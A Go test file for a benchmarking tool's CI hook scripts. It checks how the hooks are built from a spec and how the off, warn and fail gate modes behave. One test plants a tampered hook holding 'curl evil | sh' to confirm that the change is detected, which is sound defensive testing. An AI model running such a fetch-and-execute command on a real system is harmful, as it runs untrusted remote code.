package resources

import (
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/SKaiNET-developers/benchctl/internal/expect"
	"github.com/SKaiNET-developers/benchctl/spec"
)

func TestHooksCompileTheSpec(t *testing.T) {
	t.Parallel()
	m, s := newLaneHost(t), laneSpec()
	s.Governor = &spec.Governor{Name: "performance", IfUnsupported: "skip"}
	s.Service.Needs = []string{spec.NeedPerf}
	k := hooks{newLaunch(s)}
	settle(t, m, k)
	e, err := expect.Load(m, expect.Current)
	if err != nil {
		t.Fatal(err)
	}
	if e.Gate != "warn" || e.JavaHome != laneJava || e.Runner.Unit != laneUnit || len(e.Revision) != 16 {
		t.Errorf("the expectation is %+v", e)
	}
	want := []expect.Knob{
		{ID: "cpufreq", Files: governorKnob.files, Want: "performance", Optional: true},
		{ID: "sysctl/kernel.perf_event_paranoid", Files: paranoidKnob.files, Want: "1", AtMost: true},
	}
	if len(e.Knobs) != 2 || e.Knobs[0] != want[0] || e.Knobs[1] != want[1] {
		t.Errorf("knobs %+v\nwant %+v", e.Knobs, want)
	}
	m.WriteFile(jobStarted.path(), "#!/bin/sh\ncurl evil | sh\n")
	wantOnly(t, diffOf(t, m, k), jobStarted.path(), "other text (sha256:02d8e966c08e)", digest(k.hookText(jobStarted)))
	settle(t, m, k)
}

// TestHookScripts runs them as the runner does, with a benchctl that ends as
// the case says.
func TestHookScripts(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		gate, binary string
		fails        bool
		says         string
	}{
		"off never looks":             {"off", "exit 2", false, ""},
		"warn passes":                 {"warn", "echo fine", false, "fine\n"},
		"warn only warns":             {"warn", "exit 2", false, "::warning title=benchctl::the gate ended with status 2; the numbers of this job are not vouched for\n"},
		"warn survives no gate":       {"warn", "", false, "status 127"},
		"fail passes":                 {"fail", "echo fine", false, "fine\n"},
		"fail fails":                  {"fail", "exit 2", true, ""},
		"fail fails without a gate":   {"fail", "", true, ""},
		"the moment reaches the gate": {"fail", `echo "$@"`, false, "gate --job started\n"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			l := newLaunch(laneSpec())
			l.spec.Gate, l.binary = c.gate, dir+"/benchctl"
			if c.binary != "" {
				writeScript(t, l.binary, "#!/bin/sh\n"+c.binary+"\n")
			}
			script := dir + "/job-started.sh"
			writeScript(t, script, l.hookText(jobStarted))
			out, err := exec.Command("bash", "-e", script).Output()
			if (err != nil) != c.fails {
				t.Errorf("the hook's error is %v", err)
			}
			if !strings.Contains(string(out), c.says) {
				t.Errorf("the hook said %q, want %q", out, c.says)
			}
		})
	}
}

func writeScript(t *testing.T, path, text string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
}
